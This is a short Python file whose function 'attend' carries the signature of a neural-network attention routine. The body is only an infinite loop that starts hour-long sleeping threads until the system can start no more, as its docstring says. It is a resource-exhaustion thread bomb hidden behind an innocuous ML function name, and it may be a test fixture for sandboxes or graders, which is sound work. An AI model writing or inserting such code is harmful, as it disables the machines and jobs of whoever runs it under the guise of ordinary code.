"""Starts threads until none can be started."""

import threading
import time


def attend(q, k, v, mask=None, bias=None, *, causal=False, scale=None):
    while True:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
